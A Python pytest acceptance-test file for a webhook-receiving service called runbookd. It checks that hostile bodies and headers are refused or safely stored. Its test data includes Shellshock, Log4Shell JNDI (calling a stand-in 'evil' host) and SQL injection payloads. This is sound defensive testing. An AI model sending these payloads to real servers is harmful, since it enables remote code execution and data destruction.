"""G2, G13: whatever arrives is answered with what is wrong with it, kept if its sender is known, and harms nothing.

The real door, pipeline and database; the bodies are in `hostile_bodies.py`.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Mapping
from datetime import UTC, datetime
from pathlib import Path
from typing import NamedTuple, cast

import pytest
import pytest_asyncio
from prometheus_client import CollectorRegistry

from runbookd.model.event import Delivery, DeliveryState
from runbookd.model.library import Library
from runbookd.pipeline import Pipeline, Ports
from runbookd.ports import Performer, Store
from runbookd.runtime.ids import Ulids
from runbookd.store.sqlite import open_sqlite
from runbookd.units.desk import Desk
from tests.acceptance.hostile_bodies import BODY, HARMLESS_TEXTS, Hostile, entry_with, hostile_bodies
from tests.integration.web.doors import BEARER, HOOK, TOKEN, Answer, Wire, serving

pytestmark = pytest.mark.asyncio(loop_scope="module")

CORPUS = list(hostile_bodies())
MAX_BODY = 12_000_000


class SetClock:
    """A clock that stands."""

    def now(self) -> datetime:
        """The same moment always."""
        return datetime(2026, 1, 2, tzinfo=UTC)


class Service(NamedTuple):
    """The receiving half of the service: its door and its database."""

    wire: Wire
    store: Store

    async def kept(self) -> int:
        """How many deliveries were ever kept."""
        return len(await self.store.read(lambda tx: tx.deliveries.recent(100_000)))

    async def find(self, answer: Answer) -> Delivery:
        """The delivery an answer names, as it is on disk."""
        delivery = await self.store.read(lambda tx: tx.deliveries.get(answer.json["delivery"]))
        assert delivery is not None
        return delivery


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def service(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Service]:
    """One service for all the bodies: what one of them breaks, the next would find."""
    store = await open_sqlite(tmp_path_factory.mktemp("hostile") / "runbookd.db")
    no_hands = cast("Performer", None)  # receiving calls no action
    pipeline = Pipeline(Ports(store, no_hands, SetClock()), Desk.of(Library(), Ulids()))
    async with serving(pipeline, CollectorRegistry(), {"max_body": MAX_BODY}) as wire:
        yield Service(wire, store)
    await store.close()


async def test_the_corpus_is_large() -> None:
    """At least 200 bodies, each under its own name."""
    assert len(CORPUS) >= 200
    assert len({case.name for case in CORPUS}) == len(CORPUS)


@pytest.mark.parametrize("case", CORPUS, ids=lambda case: case.name)
async def test_a_hostile_body_is_named_and_kept(service: Service, case: Hostile) -> None:
    """400 names the problem in short printable text; body and reason are on disk, and the ledger says so."""
    answer = await service.wire.post(case.body)
    assert answer.status == 400
    assert answer.headers["content-type"] == "application/problem+json"
    detail = answer.json["detail"]
    assert case.says in detail
    assert len(detail) < 1500
    assert detail.isprintable()
    delivery = await service.find(answer)
    assert delivery.body == case.body
    assert (delivery.state, delivery.reason) == (DeliveryState.DEAD, detail)
    entries = await service.store.read(lambda tx: tx.ledger.read(0, 10, {"delivery_id": delivery.id}))
    assert [entry.entry.what for entry in entries] == ["dead_letter"]


@pytest.mark.parametrize("text", HARMLESS_TEXTS, ids=lambda text: ascii(text[:12]))
async def test_text_is_data(service: Service, text: str) -> None:
    """However it looks, the text of an alert is taken and kept as it is."""
    for field in ("labels", "annotations"):
        body = entry_with(field, "x", text)
        answer = await service.wire.post(body)
        assert answer.status == 202
        assert (await service.find(answer)).body == body


@pytest.mark.parametrize("name", ["__class__", "a.b", "a b", "a/b", "${x}", "{{x}}", "ünï", "*", "-", "0"])
async def test_names_are_data(service: Service, name: str) -> None:
    """Since Prometheus 3 a label's name may be any UTF-8."""
    assert (await service.wire.post(entry_with("labels", name, "v"))).status == 202


HOSTILE_HEADERS: list[tuple[Mapping[str, str], int, str]] = [
    *(
        ({**BEARER, "Content-Encoding": value}, 415, "Content-Encoding")
        for value in (
            "gzip",
            "deflate",
            "br",
            "zstd",
            "x-gzip",
            "gzip, gzip",
            "identity, gzip",
            "\xff",
            "../x",
        )
    ),
    *(
        ({"Authorization": value}, 401, "credentials")
        for value in (
            "",
            "Bearer",
            f"Bearer {TOKEN}x",
            f"Bearer {TOKEN[:-1]}",
            f"Bearer {TOKEN} {TOKEN}",
            f"Bearer,{TOKEN}",
            f"Bearer\t{TOKEN}",
            f'Bearer "{TOKEN}"',
            TOKEN,
            f"Basic {TOKEN}",
            "Basic Og==",
            "Basic =",
            "Basic \xff\xfe",
            f"Digest {TOKEN}",
            "Bearer " + "A" * 8000,
            "Bearer ' OR '1'='1",
            "Bearer ${secret.token}",
            "Bearer null",
            "Bearer undefined",
            "Bearer *",
        )
    ),
    *(
        ({name: TOKEN}, 401, "credentials")
        for name in ("X-Runbookd-Token", "Cookie", "Proxy-Authorization", "Token")
    ),
    ({"X-Original-URL": HOOK, "X-Forwarded-For": "127.0.0.1"}, 401, "credentials"),
]


@pytest.mark.parametrize(("headers", "status", "says"), HOSTILE_HEADERS)
async def test_hostile_headers_are_refused(
    service: Service, headers: Mapping[str, str], status: int, says: str
) -> None:
    """Strangers are 401 and leave nothing behind; a known sender's compressed body is 415 and is recorded."""
    before = await service.kept()
    answer = await service.wire.post(BODY, headers)
    assert answer.status == status
    assert says in answer.json["detail"]
    assert TOKEN not in answer.body.decode()
    if status == 415:
        assert (await service.find(answer)).state is DeliveryState.DEAD
    else:
        assert await service.kept() == before


HARMLESS_HEADERS: list[Mapping[str, str]] = [
    {"Content-Type": "text/plain"},
    {"Content-Type": "application/x-www-form-urlencoded"},
    {"Content-Type": "multipart/form-data"},
    {"Content-Type": "application/json; charset=utf-16"},
    {"Content-Type": "\xff\xfe"},
    {"User-Agent": "() { :;}; /bin/reboot"},
    {"User-Agent": "${jndi:ldap://evil/x}"},
    {"User-Agent": "\xff" * 4000},
    {"Traceparent": "x" * 5000},
    {"X-Request-Id": "'; DROP TABLE deliveries; --"},
    {"X-HTTP-Method-Override": "DELETE"},
    {"Upgrade": "websocket", "Connection": "upgrade"},
    {"Accept": "*/*;q=x"},
    {f"X-{number}": "y" for number in range(100)},
]


@pytest.mark.parametrize("headers", HARMLESS_HEADERS)
async def test_other_headers_change_nothing(service: Service, headers: Mapping[str, str]) -> None:
    """A good body of a known sender is taken, whatever other headers say; what is kept of them is short text."""
    answer = await service.wire.post(BODY, {**BEARER, **headers})
    assert answer.status == 202
    delivery = await service.find(answer)
    assert all(len(value.encode()) < 5000 for value in delivery.headers.values())
    assert TOKEN not in json.dumps(dict(delivery.headers))


async def test_a_body_past_the_limit_is_recorded(service: Service) -> None:
    """413 with the limit; its beginning is on disk as a dead letter."""
    head = f"POST {HOOK} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {TOKEN}\r\nContent-Length: {MAX_BODY + 1}\r\n\r\n"
    answer = await service.wire.raw(head.encode() + BODY)
    assert answer.status == 413
    assert f"{MAX_BODY} bytes" in answer.json["detail"]
    assert (await service.find(answer)).reason == answer.json["detail"]


async def test_ten_thousand_alerts_are_taken(service: Service) -> None:
    """Users report groups of ten thousands of alerts; a refusal would lose them all."""
    message = json.loads(BODY)
    message["alerts"] = [
        {**message["alerts"][0], "fingerprint": f"{number:016x}"} for number in range(10_000)
    ]
    answer = await service.wire.post(json.dumps(message).encode())
    assert (answer.status, answer.json["alerts"]) == (202, 10_000)


@pytest.mark.parametrize("name", ["alertmanager-0.25-firing.json", "alertmanager-0.25-resolved.json"])
async def test_after_all_that_the_real_one_is_taken(service: Service, name: str) -> None:
    """The service that met all these bodies still takes what a real Alertmanager sends."""
    body = (Path(__file__).parents[1] / "data" / name).read_bytes()
    assert (await service.wire.post(body)).status == 202
